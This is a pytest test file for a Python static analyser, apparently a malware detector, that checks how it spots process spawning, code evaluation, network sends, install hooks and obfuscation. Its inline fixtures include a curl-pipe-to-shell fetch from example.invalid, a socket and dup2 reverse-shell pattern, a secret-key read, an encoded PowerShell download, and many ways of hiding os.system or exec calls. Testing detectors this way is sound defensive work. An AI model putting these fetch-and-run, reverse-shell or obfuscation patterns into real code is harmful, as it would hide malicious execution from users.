"""Fixtures here are hand-written and inert: hosts under example.invalid, no working payload."""

import base64
import string
import zlib

import pytest

from darnel.features import syntax
from darnel.features.analyse import analyse_file
from darnel.features.content import sniff
from darnel.features.facts import Observation, SourceFacts
from darnel.features.languages.python import analyse
from darnel.features.languages.python_source import MAX_READ
from darnel.features.languages.registry import grammar_versions, language_for
from darnel.features.limits import DEFAULT_LIMITS, Limits


def facts(source: str | bytes, limits: Limits = DEFAULT_LIMITS) -> SourceFacts:
    data = source if isinstance(source, bytes) else source.encode()
    found = analyse(data, limits)
    if found.observations:  # nothing that is reported may be in a file that the byte filter spares
        language = language_for("x.py", data)
        assert "unparsed" not in analyse_file("x.py", data, sniff("x.py", data), language, limits), source
    return found


def seen(source: str | bytes) -> dict[str, Observation]:
    """Observations by behaviour, the last of each; hidden ones win."""
    found: dict[str, Observation] = {}
    for observation in sorted(facts(source).observations, key=lambda o: o.hidden):
        found[observation.behaviour] = observation
    return found


def texts(source: str) -> dict[str, str]:
    return {literal.value: literal.how for literal in facts(source).literals}


@pytest.mark.parametrize(
    ("source", "api"),
    [
        ("import subprocess as s\ns.Popen(['x'])", "subprocess.Popen"),
        ("from subprocess import Popen as p\np(['x'])", "subprocess.Popen"),
        ("from subprocess import *\nPopen(['x'])", "subprocess.Popen"),
        ("import subprocess\nq = subprocess\nz = q.Popen\nz(['x'])", "subprocess.Popen"),
        ("__import__('subprocess').Popen(['x'])", "subprocess.Popen"),
        ("import importlib\nimportlib.import_module('subprocess').Popen(['x'])", "subprocess.Popen"),
        ("def f():\n    import subprocess\n    subprocess.Popen(['x'])", "subprocess.Popen"),
        ("if (s := __import__('subprocess')): s.Popen(['x'])", "subprocess.Popen"),
    ],
)
def test_aliases(source: str, api: str) -> None:
    observation = seen(source)["spawn.process"]
    assert observation.api == api
    assert not observation.hidden


@pytest.mark.parametrize(
    "source",
    [
        "__import__('o'+'s').system('x')",
        "import os\ngetattr(os, 'sys' + 'tem')('x')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
        "import os\ngetattr(os, 'metsys'[::-1])('x')",
        "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('x')",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('x')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')",
        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('x')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('x')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')",
        "import os\ngetattr(os, '\\x73\\x79\\x73\\x74\\x65\\x6d')('x')",
        "import os\na = 'sys'\nb = a + 'tem'\ngetattr(os, b)('x')",
        "import os\nf = lambda s: s[::-1]\ngetattr(os, f('metsys'))('x')",
        "import os\ndef f(s):\n    return s[::-1]\ngetattr(os, f('metsys'))('x')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')",
        "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('x')",
        "import os\nos.__dict__['sys' + 'tem']('x')",
        "import os\ngetattr(os, 'sxysxtexm'.replace('x', ''))('x')",
    ],
)
def test_hidden_names_are_resolved_and_marked(source: str) -> None:
    observation = seen(source)["spawn.shell"]
    assert observation.api == "os.system"
    assert observation.hidden


@pytest.mark.parametrize(
    "source",
    [
        "k = exec\nk(x)",
        "import builtins\nbuiltins.exec(x)",
        "__builtins__.__dict__['exec'](x)",
        "globals()['ev' + 'al'](x)",
        "getattr(__builtins__, 'exec')(x)",
        "exec x in y\n",
        "exec 'a = 1'\n",
        "(lambda: exec(x))()",
    ],
)
def test_evaluation_however_it_is_spelled(source: str) -> None:
    assert seen(source)["code.evaluate"].top


@pytest.mark.parametrize(
    ("source", "is_opaque"),
    [
        ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAAAAAAAAAAAAAA')))", True),
        ("import zlib\ncode = zlib.decompress(open(p, 'rb').read())\nexec(code)", True),
        ("from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(b'gAAAAA'))", True),
        ("def f(code):\n    exec(code)", False),
        ("code = open(p).read()\nexec(code)", False),
        ("exec(compile(open(p).read(), p, 'exec'))", False),
        ("import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJykgICAgICAgICAg'))", False),
        ("decode = b.decode('hex')\nother = zlib.decompress(x)\nexec(another)", False),
        ("def undo(x):\n    key = b'k'\n    return bytes(c ^ key[0] for c in x)\nexec(undo(packed))", True),
        (
            "class A:\n  def f(self):\n    exec(self.g(self.x))\n  def g(self, x):\n    return b64decode(x)",
            True,
        ),
        (
            "raw = bytearray([a[i] ^ b[i % 6] for i in r])\ntext = raw.decode('ascii').replace('A', 'B')\nexec(text)",
            True,
        ),
        (
            "def load(x):\n    return json.loads(x)\n\ndef other(x):\n    return zlib.decompress(x)\neval(load(p))",
            False,
        ),
        ("def load(x):\n    return x.read()\nexec(load(p))", False),
        ("x = y\ny = x\nexec(x)", False),
    ],
)
def test_code_that_is_decoded_and_cannot_be_read(source: str, is_opaque: bool) -> None:
    assert ("code.opaque" in seen(source)) == is_opaque


def test_a_decoded_literal_is_scanned_as_what_it_is() -> None:
    url = "https://example.invalid/payload"
    coded = base64.b64encode(url.encode()).decode()
    assert texts(f"import base64\nx = base64.b64decode('{coded}').decode()")[url] == "base64"
    assert texts(f"x = '{coded}'")[url] == "base64?"
    assert (
        texts(f"a = '{coded[:9]}'\nb = '{coded[9:]}'\nimport base64\nbase64.b64decode(a + b)")[url] == "concat+base64"
    )
    assert texts(f"x = '{url[::-1]}'[::-1]")[url] == "reverse"
    packed = base64.b64encode(zlib.compress(url.encode())).decode()
    assert texts(f"import zlib, base64\nzlib.decompress(base64.b64decode(b'{packed}'))")[url] == "base64+compress"
    assert url in texts(f"x = [{', '.join(str(ord(c)) for c in url)}]\ny = ''.join(chr(i) for i in x)")
    assert texts("x = 'https://' 'example.invalid/a'")["https://example.invalid/a"] == ""
    assert texts("x = 'https://exam' + 'ple.invalid/' + y")["https://example.invalid/"] == "concat"


def test_xor_with_a_literal_key_is_undone() -> None:
    key = b"key"
    data = [c ^ key[i % 3] for i, c in enumerate(b"https://example.invalid/x")]
    source = f"k = b'key'\nd = {data}\nr = bytes([c ^ k[i % len(k)] for i, c in enumerate(d)])"
    assert texts(source)["https://example.invalid/x"] == "xor+bytes"


def test_characters_spelled_as_sums_are_added_up() -> None:
    word = "https://example.invalid/" * 3
    sums = {c: f"((({ord(c) // 4} << 1) + ({ord(c) // 2 % 2})) << 1) + {ord(c) % 2}" for c in word}
    assert word in texts(f"u = ''.join(map(chr, [{', '.join(sums[c] for c in word)}]))\n")


def test_a_sum_seen_before_is_nested_as_deep_as_any_other() -> None:
    word = "https://example.invalid/"
    found = []
    for deep in range(10, 35):
        codes = ", ".join([f"{'(' * deep}(100 + 4){')' * deep}", *(str(ord(c)) for c in word[1:])])
        source = f"x = ''.join(map(chr, [{codes}]))\n"
        found.append(word in texts(source))
        assert (word in texts("y = bytes([(100 + 4)])\n" + source)) == found[-1]
    assert found[0]
    assert not found[-1]


def test_code_in_strings_is_analysed_in_place() -> None:
    inner = "import os\nos.system('curl -s https://example.invalid/x | sh')"
    coded = base64.b64encode(inner.encode()).decode()
    for source in (
        f"x = 1\nimport base64; exec(base64.b64decode('{coded}'))",
        f"x = 1\nPAYLOAD = '{coded}'",
        f"x = 1\nexec({inner!r})",
        f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {inner!r}])",
        f"f = open('x.py', 'w')\nf.write({inner!r})",
    ):
        observation = seen(source)["spawn.piped"]
        assert observation.hidden
        assert observation.line == 2
        assert observation.top
    twice = base64.b64encode(f"exec(__import__('base64').b64decode('{coded}'))".encode()).decode()
    assert "spawn.piped" in seen(f"exec(__import__('base64').b64decode('{twice}'))")
    assert facts(f"exec(__import__('base64').b64decode('{twice}'))").values["syntax.evaluation_depth"] == 2


def test_deep_stacks_of_packers_are_followed() -> None:
    code = "import os\nos.system('whoami')"
    for _ in range(5):
        coded = base64.b64encode(code.encode()).decode()
        code = f"import base64 as b;exec(b.b64decode('{coded}'))"
    assert seen(code)["host.identity"].hidden


def test_base64_inside_a_command_is_decoded() -> None:
    coded = base64.b64encode("Invoke-WebRequest https://example.invalid/x -OutFile y".encode("utf-16-le")).decode()
    source = f"import subprocess\nsubprocess.Popen('powershell -w hidden -enc {coded}')"
    assert "Invoke-WebRequest https://example.invalid/x -OutFile y" in texts(source)


def test_functions_of_the_module_stand_before_builtins() -> None:
    assert "code.evaluate" not in seen("def compile(x):\n    return x\ncompile('a')\n")
    assert "code.evaluate" in seen("class A:\n    def exec(self): pass\nexec(x)\n")
    assert "code.evaluate" in seen("def f(exec): pass\nexec(x)\n")
    assert "code.evaluate" in seen("exec = exec\nexec(x)\n")


def test_zlib_lambda_chain() -> None:
    inner = base64.b64encode(zlib.compress(b"import os\nos.system('whoami')"))[::-1].decode()
    source = (
        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{inner}'))"
    )
    found = seen(source)
    assert found["host.identity"].hidden
    assert found["hide.encoded"].hidden
    assert found["decode.decompress"].top


def test_arguments_decide() -> None:
    def behaviours(source: str) -> set[str]:
        return set(seen(source))

    assert "file.write" in behaviours("open('a', 'wb')") - behaviours("open('a')")
    assert behaviours("import os\nos.environ['HOME']") == {"env.one"}
    assert behaviours("import os\nos.getenv('AWS_SECRET_ACCESS_KEY')") == {"env.secret"}
    assert behaviours("import os\nx = dict(os.environ)") == {"env.all"}
    assert behaviours("import os\nos.environ['A'] = 'b'") == set()
    assert behaviours("import os\nif 'GITHUB_ACTIONS' in os.environ: pass") == {"env.one", "guard.ci"}
    assert "spawn.shell" in behaviours("import subprocess\nsubprocess.run(x, shell=True)")
    assert "spawn.hidden" in behaviours("import subprocess\nsubprocess.Popen(x, creationflags=0x08000000)")
    assert "hide.silence" in behaviours("import subprocess\nsubprocess.Popen(x, stdout=subprocess.DEVNULL)")
    assert "spawn.packager" in behaviours(
        "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])"
    )
    assert "net.insecure" in behaviours("import requests\nrequests.get(u, verify=False)")
    assert behaviours("import urllib.request as r\nr.urlopen(u)") == {"net.fetch"}
    assert behaviours("import urllib.request as r\nr.urlopen(u, data=d)") == {"net.send"}
    assert behaviours("import requests\nrequests.request('POST', u)") == {"net.send"}
    assert behaviours("import time\ntime.sleep(1)") == set()
    assert behaviours("import time\ntime.sleep(600)") == {"guard.delay"}
    assert behaviours("import yaml\nyaml.load(x, Loader=yaml.SafeLoader)") == set()
    assert "code.deserialise" in behaviours("import yaml\nyaml.load(x)")
    assert "file.executable" in behaviours("import os\nos.chmod(p, 0o755)") - behaviours(
        "import os\nos.chmod(p, 0o644)"
    )


def test_receivers_have_the_class_they_were_made_from() -> None:
    source = "import requests, socket\ns = requests.Session()\ns.post(u)\n"
    source += "def f():\n    s = socket.socket()\n    s.connect(a)\n    s.send(b)\n"
    apis = {o.api for o in facts(source).observations}
    assert {"requests.Session.post", "socket.socket.connect", "socket.socket.send"} <= apis
    assert "smtplib.SMTP.sendmail" in facts("import smtplib\nwith smtplib.SMTP(h) as s:\n    s.sendmail(a, b, c)").calls


def test_what_runs_with_the_file() -> None:
    source = """
import os
def called():
    os.system("a")
def idle():
    os.popen("b")
class C:
    os.getlogin()
    def __init__(self):
        os.startfile("c")
@decorate(os.uname())
def other(): pass
called()
C()
if __name__ == "__main__":
    exec(x)
"""
    found = {o.api: o.top for o in facts(source).observations}
    assert found["os.system"] is True
    assert found["os.popen"] is False
    assert found["os.getlogin"] is True
    assert found["os.startfile"] is True
    assert found["os.uname"] is True
    assert found["exec"] is False


def test_threads_and_exit_handlers_run_their_targets() -> None:
    source = "import threading, atexit, os\ndef f():\n    os.system('x')\nthreading.Thread(target=f).start()\n"
    assert seen(source)["spawn.shell"].top
    assert seen(source.replace("threading.Thread(target=f).start()", "atexit.register(f)"))["spawn.shell"].top


def test_install_commands_run_their_methods() -> None:
    source = """
from setuptools import setup
from setuptools.command.install import install as base
class Hook(base):
    def run(self):
        base.run(self)
        self.go()
    def go(self):
        import os
        os.system("x")
setup(cmdclass={"install": Hook})
"""
    found = seen(source)
    assert found["install.hook"].top
    assert found["spawn.shell"].top
    assert "install.hook" not in seen("from setuptools import setup\nsetup(name='x')")


def test_a_command_that_builds_is_no_hook_though_its_methods_run() -> None:
    source = """
import os
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Optional(build_ext):
    def run(self):
        os.system("x")
setup(cmdclass={"build_ext": Optional})
"""
    found = seen(source)
    assert "install.hook" not in found
    assert found["spawn.shell"].top
    assert "install.hook" in seen(source.replace('"build_ext":', '"develop":'))


def test_order_is_evaluation_order() -> None:
    source = "import requests, base64, os\nrequests.post(u, data=base64.b64encode(open('a').read()))"
    observations = sorted(facts(source).observations, key=lambda o: o.order)
    assert [o.behaviour for o in observations] == ["file.read", "encode.text", "net.send"]
    assert len({o.statement for o in observations}) == 1


def test_guards_swallowing_padding_and_shells() -> None:
    assert seen("import platform\nif platform.system() == 'Windows': pass")["guard.host"].api == "compare:platform"
    assert "guard.sandbox" in seen("import sys\nif sys.gettrace() is not None: pass")
    assert "hide.swallow" in seen("import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass\n")
    assert "hide.swallow" not in seen("try:\n    import json\nexcept ImportError:\n    json = None\n")
    assert "hide.padding" in seen("import os" + " " * 200 + ";exec(x)")
    assert "hide.padding" not in seen("x = 'a" + " " * 200 + "b'")
    shell = "import socket, os\ns = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)\n"
    assert "spawn.reverse" in seen(shell)
    assert "spawn.reverse" not in seen("import os\nos.dup2(a, 0)")
    assert "hide.names" in seen("\n".join(f"_0x{i:04x} = {i}" for i in range(20)))


def test_ordinary_code_is_quiet() -> None:
    source = '''
"""Docs mention https://example.invalid and exec(x)."""
import argparse, json, logging, re
from pathlib import Path

log = logging.getLogger(__name__)
PATTERN = re.compile(r"a+")

class Tool:
    """A tool."""

    def __init__(self, path: str, *, size: int = 3) -> None:
        self.path = Path(path)
        self.items = [x for x in range(size) if getattr(self, "flag", None)]

    def run(self, parser: argparse.ArgumentParser) -> str:
        value = "{} and %s".format(self.path) % ", ".join(map(str, self.items))
        return value.replace("a", "b") + f"{value!r}"
'''
    result = facts(source)
    assert result.observations == []
    assert not any("exec" in literal.value for literal in result.literals)
    assert "argparse" in result.imports
    assert {"Tool", "run", "path", "value", "PATTERN"} <= set(result.identifiers)


def test_values_are_declared_columns() -> None:
    values = facts("import os\nx = lambda y: os.getcwd(y)\nx(1); x(2)\n").values
    syntax.check(values)
    assert values["syntax.calls"] == 3
    assert values["syntax.lambdas"] == 1
    assert values["syntax.statements_per_line"] == 2
    assert values["syntax.top_share"] == 1
    with pytest.raises(KeyError, match=r"syntax\.unheard"):
        syntax.check({"syntax.unheard": 1.0})
    assert facts("").values["syntax.bytes"] == 0


def test_registry_knows_python() -> None:
    def language(path: str, data: bytes = b"") -> str:
        found = language_for(path, data)
        return found.name if found else ""

    assert language("a/b.py") == language("b.pyw") == language("x.pth") == language("n.ipynb") == "python"
    assert language("bin/tool", b"#!/usr/bin/env python3\nimport os\n") == "python"
    assert language("tool.txt", b"#!/usr/bin/python2.7 -u\n") == "python"
    assert grammar_versions()["tree-sitter-python"]
    pth = language_for("x.pth", b"")
    assert pth is not None
    result = pth.analyse(b"./folder\nimport os;os.system('x')\nexec('no')\n", DEFAULT_LIMITS)
    assert [(o.behaviour, o.line) for o in result.observations] == [("spawn.shell", 2)]
    book = language_for("x.ipynb", b"")
    assert book is not None
    cells = b'{"cells": [{"cell_type": "code", "source": ["%pip install x\\n", "import os\\n", "os.system(\'x\')"]}]}'
    assert [o.behaviour for o in book.analyse(cells, DEFAULT_LIMITS).observations] == ["spawn.shell"]
    for broken in (
        b"",
        b"[",
        b"[]",
        b'{"cells": 3}',
        b"[" * 100_000,
        b'{"cells": [{"cell_type": "code", "source": [1]}]}',
    ):
        assert book.analyse(broken, DEFAULT_LIMITS).observations == []


def test_a_written_command_is_classified() -> None:
    source = "f = open('x', 'a')\nf.write('curl -s https://example.invalid/x | sh')"
    assert seen(source)["spawn.piped"].api == "written:spawn.piped"
    assert set(seen("f = open('x', 'w')\nf.write('A line of ordinary text about curl.')")) == {"file.write"}


def test_numbers_dressed_as_text_are_read() -> None:
    number = (
        "int(float(str('....336.719.{}..582').split('..')[int(float(2 * 55 / 55))].split('.')[int(float(2 * 7 / 7))]))"
    )
    source = "exec(''.join(map(chr, [" + ", ".join(number.format(ord(c)) for c in "import os;os.system('id')") + "])))"
    assert seen(source)["spawn.shell"].hidden


def test_substitution_ciphers_are_undone() -> None:
    source = (
        "import string\na = string.ascii_letters\nr = a[::-1]\n"
        "exec(''.join([r[a.index(c)] if c in r else c for c in "
        + repr("".join(_swapped(c) for c in "import os;os.system('id')"))
        + "]))"
    )
    assert seen(source)["spawn.shell"].hidden
    assert seen(source)["hide.encoded"].hidden


def _swapped(c: str) -> str:
    letters = string.ascii_letters
    return letters[::-1][letters.index(c)] if c in letters else c


def test_code_assembled_where_it_is_executed_counts_as_decoded() -> None:
    assert "decode.characters" in seen("exec(''.join(table[i - 3] for i in numbers))")
    assert "decode.characters" in seen("exec(text.translate(table))")
    assert "decode.characters" not in seen("exec(source, namespace)")
    assert "decode.characters" not in seen("exec(compile(open('x.py').read(), 'x.py', 'exec'))")


def test_names_behind_a_bound_method_of_a_string_are_resolved() -> None:
    codes = ", ".join(str(ord(c)) for c in "eval")
    source = f"glue = ''.join\nrun = getattr(__builtins__, glue([chr(i) for i in [{codes}]]))\nrun('1 + 1')"
    found = seen(source)
    assert found["code.evaluate"].hidden
    assert "decode.characters" in found


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("os.system('pythonw deps.pyw')", True),
        ("subprocess.Popen([sys.executable, 'version'])", True),
        ("subprocess.run(['python3', '-u', '-m', 'helper.loader'])", True),
        ("subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", False),
        ("subprocess.run([sys.executable, 'setup.py', 'bdist_wheel'])", False),
        ("os.system('python --version')", False),
        ("here = os.path.dirname(__file__)\nsubprocess.Popen(['python3', here + '/worker.py'])", True),
        ("subprocess.run([sys.executable, os.path.join(here, 'tools', 'worker.py')])", True),
        ("subprocess.run([sys.executable, str(Path(__file__).parent / 'worker.py')])", True),
        ("python = sys.executable\nsubprocess.run([python, 'worker.py'])", True),
        ("subprocess.run([sys.executable, os.path.join(here, 'setup.py'), 'build'])", False),
        ("subprocess.run([sys.executable, script])", False),
        ("subprocess.Popen([os.path.join(here, 'updater.exe'), '-q'])", True),
        ("os.startfile('updater.bat')", True),
        ("os.system('start /b updater.exe')", True),
        ("os.system('taskkill /im updater.exe')", False),
        ("subprocess.run(['powershell.exe', '-Command', 'ls'])", False),
    ],
)
def test_scripts_given_to_an_interpreter(command: str, expected: bool) -> None:
    assert ("spawn.script" in seen(f"import os, subprocess, sys\n{command}")) is expected


def test_the_call_around_a_payload_of_megabytes_is_seen() -> None:
    payload = base64.b64encode(b"print(1)\n" * 300_000).decode()
    found = facts(f"from base64 import b64decode\nexec(b64decode('{payload}'))\nimport os\nos.system('id')\n")
    assert {"code.evaluate", "decode.text", "spawn.shell"} <= {o.behaviour for o in found.observations}
    assert next(o.line for o in found.observations if o.behaviour == "spawn.shell") == 4
    assert "literals" in found.cut


def test_a_computed_builtin_that_is_called_is_evaluation() -> None:
    assert seen("import builtins\ngetattr(builtins, name)(text)")["code.evaluate"].hidden
    assert "code.evaluate" not in seen("import builtins\nfound = getattr(builtins, name)")
    assert "decode.characters" in seen("text = ''.join([chr((b - (key % 256)) % 256) for b in data])")


@pytest.mark.parametrize(
    "source",
    [
        '__builtins__.get("exec")(text)\n',
        'globals()["__builtins__"].get("ex" + "ec")(text)\n',
        'join = "".join\n'
        "look = globals()[join([chr(x) for x in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]\n"
        "run = look.get(join([chr(x) for x in [101, 118, 97, 108]]))\nrun(text)\n",
        "__builtins__.get(name)(text)\n",
        "class A:\n    def __init__(self):\n        self.a, self.b = 1, eval\n        self.b(text)\n",
        "class A:\n    def __init__(self):\n        self.go = exec\n        self.go(text)\n",
    ],
)
def test_builtins_behind_lookups_and_attributes(source: str) -> None:
    assert "code.evaluate" in seen(source)


def test_styled_names_are_the_names_they_spell() -> None:
    styled = "".join(chr(0x1D5EE + ord(letter) - 97) for letter in "requests")
    wide = "".join(chr(0xFF41 + ord(letter) - 97) for letter in "subprocess")
    found = seen(f'import requests, subprocess\n\n{styled}.get("https://a.example.invalid/x")\n{wide}.call(["x"])\n')
    assert found["net.fetch"].line == 3
    assert found["spawn.process"].line == 4
    assert "net.fetch" not in seen(f'print("{styled} - a name for nothing")\n')


@pytest.mark.parametrize(
    "source",
    [
        "from pip._vendor import requests\nrequests.post(url, json=data)\n",
        "from other.vendored.requests import Session\ns = Session()\ns.request(method='POST', url=url, json=data)\n",
    ],
)
def test_vendored_clients_are_the_clients(source: str) -> None:
    assert "net.send" in seen(source)


def test_a_text_that_grows_line_by_line_is_folded() -> None:
    packed = base64.b64encode(
        zlib.compress(b'import subprocess\nsubprocess.run(["whoami"])\nprint("inert")\n')
    ).decode()
    lines = "".join(f"Z += '{packed[i : i + 16]}'\n" for i in range(0, len(packed), 16))
    found = seen(
        f'import base64, zlib\nZ = ""\n{lines}Z = base64.b64decode(Z)\nZ = zlib.decompress(Z)\nif Z:\n    exec(Z)\n'
    )
    assert found["spawn.process"].hidden
    assert found["spawn.process"].top


def _looped(addition: str) -> str:
    key, code = "735691", 'import os\nos.system("whoami")\n# inert\n'
    hidden = "".join(chr(ord(a) ^ ord(key[i % len(key)])) for i, a in enumerate(code))
    return (
        f"A = {hidden!r}\nB = {key!r}\nn = len(A)\no = ''\nfor i in range(n):\n    a = A[i]\n    b = B[i % len(B)]\n"
        f"{addition}exec(o)\n"
    )


def test_a_loop_that_decodes_is_computed() -> None:
    found = seen(_looped("    o += chr(ord(a) ^ ord(b))\n"))
    assert found["spawn.shell"].hidden
    # What is not straight is left alone: the value may be another.
    assert "spawn.shell" not in seen(_looped("    if a != b:\n        o += chr(ord(a) ^ ord(b))\n"))


def test_a_conditional_addition_changes_nothing() -> None:
    found = seen('import os\n\ncommand = "who"\nif os.path.exists("x"):\n    command += "ami"\nos.system(command)\n')
    assert "host.identity" not in found
    assert "host.identity" in seen('import os\n\ncommand = "who"\ncommand += "ami"\nos.system(command)\n')


def test_packages_installed_from_an_address() -> None:
    assert "install.dependency" in seen('import os\nos.system("pip install https://a.example.invalid/b.tar.gz")\n')
    assert "install.dependency" in seen(
        'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "git+https://a.example.invalid/b"])\n'
    )
    assert "install.dependency" not in seen('import os\nos.system("pip install requests")\n')


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("requests.get(base64.b64decode(K) + key)", True),
        ('requests.get("http://192.0.2.1:1338/?h=" + answer)', True),
        ('requests.get(f"https://a.example.invalid/{mnemonic}")', True),
        ('requests.get("https://a.example.invalid/?page=" + page)', False),
        ("requests.get(base64.b64decode(K))", False),
    ],
)
def test_a_get_that_carries_something_sends(source: str, expected: bool) -> None:
    assert ("net.send" in seen(f"import base64\nimport requests\n\n{source}\n")) is expected


@pytest.mark.parametrize(
    ("source", "behaviour"),
    [
        ("import boto3\ns = boto3.Session()\ns.get_credentials()\n", "cred.cloud"),
        ("from flask import Flask\napp = Flask(__name__)\napp.run()\n", "net.listen"),
        ("import telebot\nbot = telebot.TeleBot(t)\nbot.infinity_polling()\n", "net.fetch"),
        ("import telebot\nbot = telebot.TeleBot(t)\nbot.reply_to(m, text)\n", "net.send"),
    ],
)
def test_frameworks(source: str, behaviour: str) -> None:
    assert behaviour in seen(source)


def test_import_for_what_a_module_says_of_itself_is_ordinary() -> None:
    assert "code.import" not in seen("PACKAGE = 'mine'\nVERSION = __import__(PACKAGE).__version__\n")
    assert "code.import" in seen("__import__('os').system\n")
    assert "code.import" in seen("__import__('mine').__doc__.run()\n")


def test_constants_of_marshalled_code_are_read() -> None:
    code = b"\xe3" + bytes(20) + b"z\x29https://a.example.invalid/payload-in-marshal" + bytes(20)
    source = f"import base64, marshal\nexec(marshal.loads(base64.b64decode('{base64.b64encode(code).decode()}')))\n"
    assert any("a.example.invalid" in value for value in texts(source))


def test_option_and_code_in_one_word() -> None:
    found = seen("import sys, subprocess\np = sys.executable\nsubprocess.Popen([p, '-c \"import os;os.remove(1)\"'])")
    assert {"spawn.interpreter", "file.delete"} <= set(found)


@pytest.mark.parametrize(
    "source",
    [
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')",
        "from .pyarmor_runtime_012345 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')",
    ],
)
def test_a_module_that_pyarmor_enciphered(source: str) -> None:
    assert {"code.opaque", "hide.array"} <= set(seen(source))


def test_a_host_that_only_an_f_string_says() -> None:
    parts = "def f():\n    a = 'https'\n    b = 'ex' + 'ample'\n    c = 'invalid'\n"
    url = "https://example.invalid"
    for call in ("u = f'{a}://{b}.{c}'\n    requests.post(u, data=d)", "requests.get(f'{a}://{b}.{c}')"):
        assert "concat" in texts(f"import requests\n{parts}    {call}")[url]
    spelled = "import requests\nU = 'https://example.invalid'\nrequests.post(f'{U}/x', data=d)"
    assert set(texts(spelled)) == {url, "{U}/x"}
    assert url not in texts(f"import requests\n{parts}    print(f'{{a}}://{{b}}.{{c}}')")


@pytest.mark.parametrize(("argument", "loads"), [("weights_only=False", True), ("weights_only=True", False)])
def test_a_model_that_may_hold_code(argument: str, loads: bool) -> None:
    assert ("code.deserialise" in seen(f"import torch\ntorch.load('model.pt', {argument})")) is loads


def test_a_function_made_of_code_compiled_on_the_spot() -> None:
    assert seen("import types\ntypes.FunctionType(compile(a(), b(), c()), globals())()")["code.opaque"].hidden
    assert "code.opaque" not in seen("import types\ntypes.FunctionType(f.__code__, globals())")
    assert "code.opaque" not in seen("import types\ntypes.FunctionType(code, globals())()")


@pytest.mark.parametrize(
    ("source", "top"),
    [
        ("from setuptools import setup\nif __name__ == '__main__':\n    exec(x)\n    setup()\n", True),
        ("import setuptools\nsetuptools.setup()\nif __name__ == '__main__':\n    exec(x)\n", True),
        ("import setuptools\nif __name__ == '__main__':\n    exec(x)\n", False),
        ("a, b = (lambda x: exec(x)), (lambda: 1)\na(b())\n", True),
        ("a, b = (lambda x: exec(x)), (lambda: 1)\nb()\n", False),
        ("a, b = (lambda: (lambda x: exec(x))), 1\na()(b)\n", True),
    ],
)
def test_blocks_of_the_program_and_listed_lambdas_that_run(source: str, top: bool) -> None:
    assert seen(source)["code.evaluate"].top is top


@pytest.mark.parametrize(
    ("head", "hidden"),
    [(b"\0asm\1\0\0\0", False), (b"GIF89a", False), (b"MZ\x90\0\3\0\0\0", True), (b"\x7fELF\2\1\1\0", True)],
)
def test_a_program_in_a_literal_is_hidden_and_webassembly_is_none(head: bytes, hidden: bool) -> None:
    data = head + bytes(range(128, 256)) * 2
    text = base64.b64encode(data).decode()
    for source in (f"x = '{text}'", f"import base64\nx = base64.b64decode('{text}')", f"x = {data!r}"):
        found = {o.behaviour for o in analyse(source.encode(), DEFAULT_LIMITS).observations}
        assert ("hide.encoded" in found) is hidden


@pytest.mark.parametrize(
    ("source", "guards"),
    [
        ("def f(url):\n    return url.hostname == 'a.invalid'", False),
        ("if hostname in skipped: pass", False),
        ("if username == 'a': pass", False),
        ("import socket\nhostname = socket.gethostname()\nif hostname == 'a': pass", True),
        ("import platform\nhostname = platform.node()\nif hostname in names: pass", True),
        ("import getpass\nusername = getpass.getuser()\nif username == 'a': pass", True),
        ("import os\nusername = os.environ['USERNAME']\nif username == 'a': pass", True),
        ("import socket\nif socket.gethostname() == 'a': pass", True),
    ],
)
def test_comparing_a_name_is_a_guard_if_it_is_that_of_the_machine(source: str, guards: bool) -> None:
    found = {o.behaviour for o in analyse(source.encode(), DEFAULT_LIMITS).observations}
    assert ("guard.host" in found) is guards


@pytest.mark.parametrize("many", [MAX_READ, MAX_READ + 1])
def test_names_that_are_read_are_found_however_many(many: int) -> None:
    source = "import os\n'os.environ'  # os.environ\nos.environ.x\n" + "y = os.environ\n" * (many - 3)
    assert [seen.behaviour for seen in facts(source).observations] == ["env.all"] * (many - 3)
